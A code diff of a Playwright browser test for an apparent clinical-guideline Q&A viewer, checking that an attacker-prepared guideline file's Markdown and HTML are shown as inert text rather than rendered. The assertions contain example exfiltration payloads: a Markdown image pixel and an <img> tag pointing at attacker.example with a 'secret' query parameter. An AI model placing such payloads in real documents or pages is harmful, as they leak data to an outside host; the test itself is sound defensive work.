@@ -12,6 +12,8 @@ import pytest
 from test_browser import CHROMIUM, browser_page, served, settle
 from viewer_docs import guideline_pdf
 
+EVIDENCE = "Evidence: verbatim guideline sentences only (no model)"  # the Ask page's mode label
+
 pytestmark = [
     pytest.mark.browser,
     pytest.mark.slow,
@@ -21,7 +23,6 @@ pytestmark = [
     ),
 ]
 
-EXTRACTIVE = "Extractive: verbatim guideline sentences only (no model)"
 
 # A guideline file an attacker prepared: every way Markdown or HTML could make the browser
 # fetch something, or change how the text looks.
@@ -42,7 +43,7 @@ def ask_extractive(page, question: str) -> None:  # type: ignore[no-untyped-def]
     from playwright.sync_api import expect
 
     page.get_by_role("textbox", name="Question").fill(question)
-    page.get_by_text(EXTRACTIVE).click()
+    page.get_by_text(EVIDENCE).click()
     page.get_by_role("button", name="Ask").click()
     idle(page)  # the previous answer stays on screen (stale) until this run has finished
     expect(page.get_by_text("Draft answer")).to_be_visible(timeout=180_000)
@@ -108,7 +109,7 @@ def test_viewer_shows_the_highlighted_pdf_page_and_the_markdown_section(
         ask_extractive(
             page, "How long should adjuvant CAPOX be given for low-risk stage III colon cancer?"
         )
-        rank = card_rank(page, "page 1")
+        rank = card_rank(page, "1.1 Duration of adjuvant therapy")
         page.locator("button").filter(has_text="View in document").nth(rank - 1).click()
         dialog = page.get_by_role("dialog")
         expect(dialog).to_contain_text("Page 1 of 3", timeout=60_000)
@@ -148,9 +149,11 @@ def test_viewer_shows_the_highlighted_pdf_page_and_the_markdown_section(
         requests.clear()
         page.locator("button").filter(has_text="View in document").nth(rank - 1).click()
         section = page.get_by_role("dialog").locator(".og-section")
-        expect(section).to_contain_text("![pixel](http://attacker.example/p.png?d=secret)")
-        expect(section).to_contain_text('<img src="http://attacker.example/i.png">')
-        expect(section).to_contain_text(":red[warning] **bold** `code` $x^2$ <b>bold</b>")
+        expect(section).to_contain_text("Zorblatinib dose escalation", timeout=30_000)
+        shown = section.inner_text().replace("\u2060", "")  # word joiners defuse ':' shortcodes
+        assert "![pixel](http://attacker.example/p.png?d=secret)" in shown
+        assert '<img src="http://attacker.example/i.png">' in shown
+        assert ":red[warning] **bold** `code` $x^2$ <b>bold</b>" in shown
         assert section.locator("img, a, b, strong, code, span:not(.og-hit)").count() == 0
         page.wait_for_timeout(1000)
         browser.close()
